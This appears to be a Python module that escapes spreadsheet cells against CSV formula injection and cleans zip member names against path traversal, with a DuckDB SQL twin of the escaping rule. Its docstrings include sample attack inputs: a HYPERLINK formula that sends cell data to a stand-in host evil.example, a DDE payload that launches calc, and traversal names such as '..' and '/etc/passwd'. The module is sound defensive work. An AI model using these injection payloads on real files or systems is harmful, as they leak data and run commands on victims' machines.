"""Files Pledge builds from data for people to open: spreadsheet cells that cannot run, and zip
member names that cannot leave the folder they are unpacked into.

Cells. A value that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
as a formula by Excel, LibreOffice and Google Sheets when a CSV is opened, so a name such as
``=HYPERLINK("http://evil.example/?"&A2, "Click")`` in a customer's row would run on the
DPO's machine. Following OWASP's CSV injection guidance such a value is written with a single
quote before it (``'=HYPERLINK(...)``): spreadsheets show it as text, and the quote tells a
reader it was added. The one exception is a plain number, a sign then digits with at most
one decimal point (``-42``, ``+441632960123``, ``-0.5``): no spreadsheet can read a function
call into it, and quoting it would spoil E.164 phone numbers in a screened audience and
negative amounts in an access package. Numbers held as numbers (``int``, ``Decimal``) are never
altered. XLSX cells get the same rule: Pledge writes them as text cells, which are not
evaluated, but editing one would make it live.

:func:`cell` is the rule in Python; :func:`cell_sql` is the same rule for DuckDB, which writes
screening outputs without Python touching each row. A test holds the two to the same answers.

Member names. :func:`member_name` joins path segments into a zip member name in which no
segment is empty, ``.`` or ``..``, and none holds a slash, backslash, colon or control
character, so unpacking it cannot write outside the folder chosen, on any system.
"""

from __future__ import annotations

import re

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
_UNSAFE_IN_SEGMENT = re.compile(r"[/\\:\x00-\x1f\x7f]")


def cell(value: str) -> str:
    """The text to write in a spreadsheet cell so that it is shown, never run.

    >>> cell("=1+1"), cell("-2+3+cmd|' /C calc'!A0"), cell("+441632960123"), cell("Ada")
    ("'=1+1", "'-2+3+cmd|' /C calc'!A0", '+441632960123', 'Ada')
    """
    if value[:1] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def cells(row: list[object]) -> list[object]:
    """A row for a CSV writer: text cells through :func:`cell`, other values as they are."""
    return [cell(value) if isinstance(value, str) else value for value in row]


def cell_sql(column: str) -> str:
    """DuckDB SQL: the text expression ``column`` as :func:`cell` writes it (NULL stays NULL)."""
    starts = ", ".join(f"chr({ord(c)})" for c in sorted(FORMULA_STARTS))
    return (
        f"CASE WHEN left({column}, 1) IN ({starts}) AND NOT "
        f"regexp_full_match({column}, '{_PLAIN_NUMBER.pattern}') "
        f"THEN '''' || {column} ELSE {column} END"
    )


def member_name(*segments: str) -> str:
    """A zip member name made of ``segments``, each kept to one harmless path component.

    >>> member_name("files", "..", "C:\\\\Windows", "/etc/passwd")
    'files/_/C__Windows/_etc_passwd'
    """
    safe = []
    for segment in segments:
        cleaned = _UNSAFE_IN_SEGMENT.sub("_", segment).strip()
        safe.append("_" if cleaned in ("", ".", "..") else cleaned)
    return "/".join(safe)
